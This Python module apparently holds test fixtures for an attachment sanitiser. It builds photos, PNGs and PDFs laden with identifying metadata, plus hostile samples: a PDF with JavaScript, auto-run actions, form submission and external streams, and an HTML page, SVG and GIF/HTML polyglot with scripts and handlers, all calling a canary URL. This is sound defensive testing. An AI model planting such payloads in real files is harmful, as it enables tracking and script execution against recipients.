"""Attachments as they come: whole ones, ones that say too much, and ones that want to act."""

import struct
import zlib
from pathlib import Path

FOLDER = Path(__file__).with_name("samples")
PHOTO = (FOLDER / "photo.jpg").read_bytes()
VOICE_OGG = (FOLDER / "voice.ogg").read_bytes()
VOICE_WEBM = (FOLDER / "voice.webm").read_bytes()
SCAN = (FOLDER / "scan.jp2").read_bytes()
# What a camera, an editor and an office program would leave, and no copy may carry on.
MARKS = (b"GPS-51.1694", b"Kanat-Photographer", b"NIKON-4411", b"2026:03:02 04:05:06")


def photo_that_tells() -> bytes:
    """A JPEG with Exif (with a GPS directory), XMP, IPTC and a comment."""
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x02" + _entry(0x0110, MARKS[2]) + _entry(0x8825, MARKS[0])
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><dc:creator>" + MARKS[1] + b"</dc:creator>"
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + MARKS[1]
    segments = [(0xE1, exif + MARKS[2] + MARKS[0]), (0xE1, xmp), (0xED, iptc), (0xFE, MARKS[3])]
    told = b"".join(
        struct.pack(">BBH", 0xFF, kind, len(body) + 2) + body for kind, body in segments
    )
    return PHOTO[:2] + told + PHOTO[2:]


def _entry(tag: int, value: bytes) -> bytes:
    return struct.pack(">HHII", tag, 2, len(value), 38)


def picture_that_tells() -> bytes:
    """A PNG with text, international text (XMP) and Exif chunks."""
    rows = zlib.compress(b"".join(b"\0" + bytes((200, y * 8, 90)) * 40 for y in range(24)))
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", 40, 24, 8, 2, 0, 0, 0)),
        (b"tEXt", b"Author\0" + MARKS[1]),
        (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + MARKS[0]),
        (b"eXIf", b"MM\0*" + MARKS[2]),
        (b"tIME", MARKS[3][:7]),
        (b"IDAT", rows),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*part) for part in parts)


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def chunks_of(png: bytes) -> list[bytes]:
    """The names of a PNG's chunks."""
    found, place = [], 8
    while place < len(png):
        (length,) = struct.unpack(">I", png[place : place + 4])
        found.append(png[place + 4 : place + 8])
        place += 12 + length
    return found


def segments_of(jpeg: bytes) -> list[int]:
    """The kinds of a JPEG's segments up to its picture."""
    found, place = [], 2
    while jpeg[place] == 0xFF and jpeg[place + 1] != 0xDA:
        found.append(jpeg[place + 1])
        place += 2 + int.from_bytes(jpeg[place + 2 : place + 4], "big")
    return found


def pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, the first one its catalog."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n"
    return body + head + table + end % (len(objects) + 1, trailer, len(body))


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(content), content)


def paper(words: bytes = b"Torture protocol", *, pages: int = 2) -> bytes:
    """A PDF that names its author, in its information and in XMP."""
    kids = b" ".join(b"%d 0 R" % (6 + 2 * number) for number in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%b] >>" % (pages, kids),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Author (%b) /Creator (%b) /CreationDate (D:20260302) >>" % (MARKS[1], MARKS[2]),
        stream(b"<x:xmpmeta>" + MARKS[0] + b"</x:xmpmeta>", b"/Type /Metadata /Subtype /XML"),
    ]
    for number in range(pages):
        objects += [
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents %d 0 R"
            b" /Resources << /Font << /F 3 0 R >> >> >>" % (7 + 2 * number),
            stream(b"BT /F 18 Tf 30 120 Td (%b %d) Tj ET" % (words, number + 1)),
        ]
    return pdf(objects, trailer=b"/Info 4 0 R")


def scanned_paper() -> bytes:
    """A PDF whose page is one dark JPEG 2000 picture, as scanners write them."""
    entries = b"/Type /XObject /Subtype /Image /Width 32 /Height 32 /Filter /JPXDecode"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
        b" /Resources << /XObject << /X 5 0 R >> >> >>",
        stream(b"q 300 0 0 200 0 0 cm /X Do Q"),
        stream(SCAN, entries),
    ]
    return pdf(objects)


def hostile_pdf(canary: str) -> bytes:
    """Scripts, links, forms, external streams and XFA that all want to reach `canary`."""
    url = canary.encode()
    script = b"app.launchURL('%b/js');app.alert('pwned');this.submitForm('%b/form')" % (url, url)
    action = b"<< /S /URI /URI (%b/open) >>" % url
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /XFA 9 0 R /Fields [8 0 R] >>"
        b" /Names << /JavaScript << /Names [(a) 5 0 R] >> >> /AA << /WC %b >> >>" % action,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 6 0 R /AA << /O 5 0 R >>"
        b" /Resources << /XObject << /X 7 0 R >> /Font << /F 10 0 R >> >> /Annots [8 0 R] >>",
        b"<< /S /JavaScript /JS (%b) /Next %b >>" % (script, action),
        b"<< /S /JavaScript /JS (%b) >>" % script,
        stream(b"q 100 0 0 100 0 0 cm /X Do Q BT /F 12 Tf 20 150 Td (read me) Tj ET"),
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB"
        b" /BitsPerComponent 8 /F << /FS /URL /F (%b/image) >> /Length 0 >>\nstream\n\nendstream"
        % url,
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A %b"
        b" /AA << /PO 5 0 R /E %b >> /Parent null >>" % (action, action),
        stream(
            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><draw><value>"
            b"<image href='%b/xfa'/></value></draw></subform></template></xdp:xdp>" % url
        ),
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Nowhere /FontDescriptor 11 0 R >>",
        b"<< /Type /FontDescriptor /FontName /Nowhere /Flags 32 /FontFile2 12 0 R >>",
        stream(b"\0\x01\0\0" + b"\xff" * 64, b"/F (%b/font)" % url),
    ]
    return pdf(objects)


def hostile_page(canary: str) -> bytes:
    return (
        f"<!doctype html><script>window.pwned=1;fetch('{canary}/fetch')</script>"
        f"<img src='{canary}/img' onerror='window.pwned=1'><link rel=stylesheet href='{canary}/css'>"
        f"<iframe src='{canary}/frame'></iframe><meta http-equiv=refresh content='0;url={canary}/go'>"
    ).encode()


def hostile_drawing(canary: str) -> bytes:
    return (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
        f" onload='window.pwned=1'><script>window.pwned=1</script><image xlink:href='{canary}/svg'"
        f" width='9' height='9'/><style>@import url({canary}/css)</style>"
        f"<foreignObject><iframe src='{canary}/frame'/></foreignObject></svg>"
    ).encode()


def picture_with_a_page_inside(canary: str) -> bytes:
    """A file that begins as a GIF and goes on as a page."""
    return b"GIF89a/*" + hostile_page(canary)
